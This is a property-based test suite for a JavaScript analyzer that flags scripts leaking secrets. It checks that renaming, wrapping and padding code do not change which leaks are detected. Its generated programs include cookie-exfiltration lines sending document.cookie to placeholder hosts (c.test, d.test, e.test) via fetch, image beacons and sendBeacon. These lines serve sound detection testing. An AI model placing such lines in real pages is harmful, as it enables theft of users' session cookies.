import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { sinksOf } from "../testing/trace-of.ts";

/** Statements over four variables; `kept` holds the secret, or not. */
const EXPRESSIONS = [
	"document.cookie",
	"kept",
	"kept + other",
	"[kept, other].join()",
	"btoa(kept)",
	"'light'",
	"other.length",
	"{ kept }.kept",
];
const expressions = fc.constantFrom(...EXPRESSIONS).map((text) => (text.startsWith("{") ? `(${text})` : text));
const statements = fc.oneof(
	expressions.map((value) => `kept = ${value};`),
	expressions.map((value) => `other = String(${value});`),
	expressions.map((value) => `if (kept) { other = ${value}; }`),
	expressions.map((value) => `list.push(${value});`),
	fc.constant("for (const one of list) { other += one; }"),
	fc.constant("other = wrap(kept);"),
	expressions.map((value) => `fetch("https://c.test/?" + ${value});`),
	expressions.map((value) => `fetch("/own", { method: "POST", body: ${value} });`),
	expressions.map((value) => `setTimeout(() => { new Image().src = "//d.test/" + ${value}; }, 10);`),
	expressions.map((value) => `document.body.onclick = () => send(${value});`),
);
const programs = fc
	.array(statements, { minLength: 1, maxLength: 8 })
	.map((lines) =>
		[
			'let kept = "", other = "", list = [];',
			"const wrap = (text) => ({ text }).text;",
			"const send = (text) => navigator.sendBeacon('https://e.test/', text);",
			...lines,
		].join("\n"),
	);

const NEW_NAMES: Readonly<Record<string, string>> = { kept: "$k", other: "_0x1f", list: "l", wrap: "w", send: "s" };

/** The variables by other names; the letters in texts and properties stay. */
function renamed(code: string): string {
	return code
		.replace(/\{ kept \}\.kept/g, "{ kept: kept }.kept")
		.replace(/(?<![.\w])(kept|other|list|wrap|send)\b(?!:)/g, (name) => NEW_NAMES[name] ?? name);
}

const runs = { numRuns: 60 };

describe("invariants of the trace", { timeout: 60_000 }, () => {
	test("names of variables", () => {
		fc.assert(
			fc.property(programs, (code) => {
				expect(sinksOf(renamed(code))).toEqual(sinksOf(code));
			}),
			runs,
		);
	});

	test.each([
		["an arrow function", "(() => {\n", "\n})();"],
		["a function", "(function () {\n", "\n})();"],
		["a function called by call", "(function () {\n", "\n}).call(this);"],
		["void and an exclamation mark", "void !function () {\n", "\n}();"],
		["a block", "{\n", "\n}"],
	])("%s around it", (_title, before, after) => {
		fc.assert(
			fc.property(programs, (code) => {
				expect(sinksOf(before + code + after)).toEqual(sinksOf(code));
			}),
			runs,
		);
	});

	test("comments, spaces and statements that do nothing", () => {
		fc.assert(
			fc.property(programs, (code) => {
				expect(sinksOf(`/* a */ ;;\n${code.replaceAll("\n", "\n\t// b\n;")}\nvoid 0;`)).toEqual(sinksOf(code));
			}),
			runs,
		);
	});

	test("earlier analyses", () => {
		fc.assert(
			fc.property(programs, programs, (one, other) => {
				const first = analyzeScript({ code: one });
				analyzeScript({ code: other });
				expect(analyzeScript({ code: one })).toEqual(first);
			}),
			runs,
		);
	});
});

describe("changes that never lower the risk", { timeout: 60_000 }, () => {
	test("more statements at its end remove no sink", () => {
		fc.assert(
			fc.property(programs, statements, (code, more) => {
				const after = sinksOf(`${code}\n${more}`).map((line) => line.split(/ [<(]/)[0]);
				for (const line of sinksOf(code)) expect(after).toContain(line.split(/ [<(]/)[0]);
			}),
			runs,
		);
	});

	test("a plainly sent secret is red, whatever code surrounds it", () => {
		fc.assert(
			fc.property(programs, programs, (before, after) => {
				const leak = 'fetch("https://c.test/?jar=" + document.cookie);';
				const code = `{${before}}\n${leak}\n{${after}}`;
				expect(analyzeScript({ code }).risk_level).toBe("red");
			}),
			runs,
		);
	});
});
